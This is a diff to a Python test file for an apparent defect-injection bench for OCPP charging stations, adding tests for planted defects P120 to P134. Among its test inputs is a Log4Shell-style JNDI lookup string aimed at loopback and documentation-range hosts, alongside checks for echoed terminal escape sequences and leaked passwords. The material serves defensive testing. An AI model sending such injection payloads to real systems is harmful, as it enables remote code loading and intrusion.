@@ -44,6 +44,7 @@ from fuzz.station.wire import HEALTHY
 from strategies.labels import spell
 
 SURVEY = range(1, 63)
+OF_OUR_OWN, UNSEEN = range(63, 99), range(120, 135)
 CSMS_ONLY = {14, 16, 17, 25, 27, 31, 32, 33, 34, 49, 50, 54, 55, 56, 57}
 EVERY = [found for key, found in defects().items() if key == found.number]
 ON_THE_WIRE = {found.number for found in EVERY if found.rewire(HEALTHY) != HEALTHY}
@@ -196,6 +197,31 @@ def started(player):
     return [info["transactionId"] for info in ids]
 
 
+def ended(player):
+    return [e for e in player.calls("TransactionEvent") if e["eventType"] == "Ended"]
+
+
+def energies(player):
+    """The highest energy register that each event of a transaction tells, of those that tell one."""
+    told = [
+        [
+            sample["value"]
+            for value in event.get("meterValue", ())
+            for sample in value["sampledValue"]
+            if sample.get("measurand") == "Energy.Active.Import.Register"
+        ]
+        for event in player.calls("TransactionEvent")
+    ]
+    return [max(values) for values in told if values]
+
+
+def reported(player):
+    """The variables of all reports, and whether more were promised at the end."""
+    parts = player.calls("NotifyReport")
+    names = [one["variable"]["name"] for part in parts for one in part["reportData"]]
+    return names, parts[-1]["tbc"]
+
+
 def repeated(player):
     events = [json.dumps(event) for event in player.calls("TransactionEvent")]
     return len(set(events)) < len(events)
@@ -228,6 +254,15 @@ SHOWN = {
     "canary fetched": lambda p: [s.url for s in p.seen if isinstance(s, Download)] == [CANARY],
     "escape sequence echoed": lambda p: p.answers[0][0] == 4 and "\x1b[2J" in p.answers[0][3],
     "stack told": lambda p: p.answers[0][3].startswith("Traceback"),
+    "refused and stored": lambda p: (
+        p.answers[0][0] == 4 and p.answers[1][2]["getVariableResult"][0]["attributeValue"] == "77"
+    ),
+    "report ends early": lambda p: "OrganizationName" not in reported(p)[0] and not reported(p)[1],
+    "one BootNotification": lambda p: len(p.calls("BootNotification")) == 1,
+    "another password": lambda p: p.bench.station.credentials.password == "a-better",
+    "Occupied": lambda p: p.status == "Occupied",
+    "no Ended": lambda p: p.calls("BootNotification") and not ended(p),
+    "less energy than before": lambda p: energies(p) != sorted(energies(p)),
     "password in the log": lambda p: b"a-better-password-1" in uploaded(p),
 }
 SEEN = [
@@ -241,7 +276,21 @@ def test_the_registry_holds_all_of_the_survey_that_a_station_can_have_and_some_o
     carried = {found.number for found in EVERY}
     surveyed = {f"P{n:02}" for n in SURVEY if n not in CSMS_ONLY}
     assert surveyed - carried == set(NOT_CARRIED)
-    assert sorted(carried - surveyed) == [f"P{n}" for n in range(63, 99)]
+    assert carried - surveyed == {f"P{n}" for n in (*OF_OUR_OWN, *UNSEEN)}
+
+
+def test_what_was_planted_unseen_mirrors_bugs_that_nothing_mirrored_before():
+    unseen = {f"P{n}" for n in UNSEEN}
+    before = {bug for found in EVERY if found.number not in unseen for bug in found.mirrors}
+    new = [bug for found in EVERY if found.number in unseen for bug in found.mirrors]
+    assert len(set(new)) == len(new) == len(unseen)
+    assert not before & set(new)
+
+
+def test_defects_are_listed_in_the_order_of_their_numbers():
+    assert [int(found.number[1:]) for found in EVERY] == sorted(
+        int(found.number[1:]) for found in EVERY
+    )
 
 
 def test_every_layer_has_a_defect_and_every_defect_is_found_by_its_name_too():
@@ -257,11 +306,12 @@ def test_a_defect_says_what_it_does_in_one_sentence_and_has_a_witness(found):
     assert found.witness
     assert found.symptom
     assert found.oracle.startswith("O")
-    assert bool(found.mirrors) == (int(found.number[1:]) <= 62 or found.number == "P71")
+    number = int(found.number[1:])
+    assert bool(found.mirrors) == (number <= 62 or number == 71 or number in UNSEEN)
 
 
 def test_every_symptom_is_looked_for_here_unless_it_is_measured_below_or_by_the_tls_lab():
-    assert set(IN_THE_CORE) - set(SEEN) - FOR_THE_LAB == {"P42", "P71"}
+    assert set(IN_THE_CORE) - set(SEEN) - FOR_THE_LAB == {"P42", "P71", "P123"}
 
 
 def test_what_shows_in_the_tls_lab_names_the_case_that_catches_it_first():
@@ -329,6 +379,8 @@ single = [
 def test_a_witness_does_nothing_to_a_station_with_the_other_defects(number, message):
     healthy = outcome(message)
     shared = {"P51", "P53"} if "InstallCertificate" in message else {number}
+    if "BasicAuthPassword" in message and "SetVariables" in message:
+        shared |= {"P59"}  # answers none of them
     for other in set(IN_THE_CORE) - shared:
         assert outcome(message, other) == healthy, other
 
@@ -471,17 +523,115 @@ def test_p41_does_not_see_the_answer_to_its_own_call_either():
 
 
 def test_p42_keeps_every_answer_that_nobody_asked_for():
-    def grown(*names):
-        bench = Bench(*(defects()[name].plant for name in names)).boot()
-        tracemalloc.start()
-        for number in range(20):
-            bench.hear(f'[3,"x{number}",{{"x":"{"x" * 100_000}"}}]')
-        held, _ = tracemalloc.get_traced_memory()
-        tracemalloc.stop()
-        return held
+    def stray():
+        return (f'[3,"x{number}",{{"x":"{"x" * 100_000}"}}]' for number in range(20))
 
-    assert grown("P42") > 2_000_000
-    assert grown() < 500_000
+    assert grown(stray(), "P42") > 2_000_000
+    assert grown(stray()) < 500_000
+
+
+def grown(messages, *names):
+    """How many bytes a station holds more after these messages, which are made one by one."""
+    bench = Bench(*(defects()[name].plant for name in names)).boot()
+    tracemalloc.start()
+    for message in messages:
+        bench.hear(message)
+    held, _ = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    return held
+
+
+def test_p123_keeps_what_every_certificate_was_worked_on_in():
+    (witness,) = defects()["P123"].witness
+    message = spell(witness.steps[0].text)
+    assert grown([message] * 20, "P123") > 20 * 250_000
+    assert grown([message] * 20) < 500_000
+
+
+def test_p120_looks_up_what_is_on_this_machine_whatever_the_protocol_and_nothing_else():
+    def fetched(vendor):
+        witness = says(json.dumps([2, "q", "DataTransfer", {"vendorId": vendor}]))
+        seen = played("P120", "P120", witness=witness).seen
+        return [said.url for said in seen if isinstance(said, Download)]
+
+    assert fetched("a ${jndi:ldap://127.0.0.1:9/x} b") == ["http://127.0.0.1:9/x"]
+    assert fetched("${jndi:ldap://192.0.2.1/x}") == []
+    assert fetched("http://127.0.0.1:9/x") == []
+
+
+def test_p122_stores_nothing_that_is_itself_against_the_rules():
+    set_, get = defects()["P122"].witness
+    low = says(spell(set_.text).replace("77", "-7"))
+    assert played("P122", "P122", witness=(*low, get)).status == "Accepted"
+    assert not SHOWN["refused and stored"](played("P122", "P122", witness=(*low, get)))
+
+
+def test_p124_takes_any_answer_while_it_waits_for_none():
+    witness = says("[3,null,{}]")
+    assert played("P124", "P124", witness=witness).seen == []
+
+
+def test_p125_answers_once_it_has_booted():
+    _, *rest = defects()["P125"].witness
+    witness = (*rest, *says('[2,"after","ClearCache",{}]'))
+    assert played("P125", "P125", witness=witness).answers[-1][:2] == [3, "after"]
+
+
+def test_p126_boots_after_an_answer_that_is_broken_or_none():
+    _, *rest = defects()["P126"].witness
+    broken = AnswerNext("BootNotification", ('[3,"{call.id}",{}]',))
+    assert len(played("P126", "P126", witness=(broken, *rest)).calls("BootNotification")) == 2
+
+
+def test_p127_reports_everything_while_nothing_was_emptied():
+    _, *rest = defects()["P127"].witness
+    names, more = reported(played("P127", "P127", witness=rest))
+    assert "OrganizationName" in names
+    assert not more
+
+
+def test_p128_takes_a_password_without_a_colon_as_it_is():
+    witness = says(spell(defects()["P59"].witness[0].text))
+    player = played("P128", "P128", witness=witness)
+    assert player.bench.station.credentials.password == "a-better-password-1"
+
+
+def test_p129_takes_the_same_request_when_nothing_is_under_way():
+    race, plug, *_ = defects()["P129"].witness
+    witness = (plug, *says(spell(race.text)))
+    assert played("P129", "P129", witness=witness).status == "Accepted"
+
+
+def test_p130_still_refuses_an_evse_that_does_not_exist():
+    *charge, start = defects()["P130"].witness
+    other = says(spell(start.text).replace('"evseId":1', '"evseId":3'))
+    assert played("P130", "P130", witness=(*charge, *other)).status == "Rejected"
+
+
+def test_p131_accepts_for_a_connector_that_is_free():
+    assert played("P131", "P131", witness=defects()["P131"].witness[3:]).status == "Accepted"
+
+
+def test_p132_tells_the_end_when_the_cable_is_taken_out():
+    witness = (*defects()["P132"].witness[:4], Operator("unplug", "1"))
+    assert ended(played("P132", "P132", witness=witness))
+
+
+def test_p133_tells_a_transaction_that_was_all_offline():
+    cut, restore = Operator("cut-network"), Operator("restore-network")
+    charge, unplug = defects()["P133"].witness[:3], Operator("unplug", "1")
+    last = Expect("TransactionEvent", 60.0)
+    player = played("P133", "P133", witness=(cut, *charge, unplug, restore, last, Wait(1)))
+    assert ended(player)
+    assert "exit 70" not in player.seen
+
+
+def test_p134_keeps_the_registers_over_a_reset():
+    witness = [
+        Say(('[2,"r","Reset",{"type":"Immediate"}]',)) if step == Operator("power-cycle") else step
+        for step in defects()["P134"].witness
+    ]
+    assert not SHOWN["less energy than before"](played("P134", "P134", witness=witness))
 
 
 def test_p52_needs_the_right_serial_number():
